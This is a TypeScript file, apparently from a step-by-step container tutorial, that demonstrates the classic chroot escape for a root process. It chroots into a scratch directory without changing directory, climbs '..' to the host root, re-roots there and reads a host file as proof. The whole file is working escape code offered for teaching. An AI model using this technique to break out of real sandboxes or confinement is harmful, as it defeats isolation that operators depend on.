// The classic way out of a chroot, for a process that is root inside it.
// chroot(2) changes only where "/" resolves; it does not move the current
// directory. So: chroot into a subdirectory WITHOUT chdir — the current
// directory is now outside the (new) root, where ".." is never stopped —
// climb up to the real /, and make that the root again.
//
//   node --import tsx steps/02-chroot/escape.ts ROOTFS FILE
// locks itself into ROOTFS, shows what it sees, escapes, and prints FILE
// (a path on the host) to prove where it ended up.
import { mkdirSync, readdirSync, readFileSync, rmdirSync } from 'node:fs';
import { chdir, chroot } from '../../lib/libc.ts';

/** Run by a process inside a chroot. Afterwards its root is the real one — unless there is no real one to reach. */
export function escapeChroot(scratch = '/.escape'): void {
  mkdirSync(scratch, { recursive: true });
  chroot(scratch); // note: no chdir — cwd stays at the old root, outside the new one
  for (let i = 0; i < 64; i++) chdir('..'); // ".." stops only AT the root, and we are not at it
  chroot('.'); // wherever we stopped is now "/"
  chdir('/');
}

const main = process.argv[1] && import.meta.url.endsWith(process.argv[1].replace(/.*\/steps\//, '/steps/'));
if (main) {
  const [rootfs, file] = process.argv.slice(2);
  if (!rootfs || !file) {
    console.error('usage: escape.ts ROOTFS FILE');
    process.exit(2);
  }
  chroot(rootfs);
  chdir('/');
  console.log(`inside the chroot, / holds: ${readdirSync('/').sort().join(' ')}`);
  try {
    readFileSync(file);
    console.log(`inside the chroot, ${file} is readable (it is inside the rootfs)`);
  } catch {
    console.log(`inside the chroot, ${file} does not exist — as it should`);
  }
  escapeChroot();
  rmdirSync(`${rootfs}/.escape`); // tidy up: the scratch dir sits in the rootfs, seen from the real root
  console.log(`after the escape, / holds: ${readdirSync('/').sort().join(' ')}`);
  console.log(`after the escape, ${file} says: ${readFileSync(file, 'utf8').trim()}`);
}
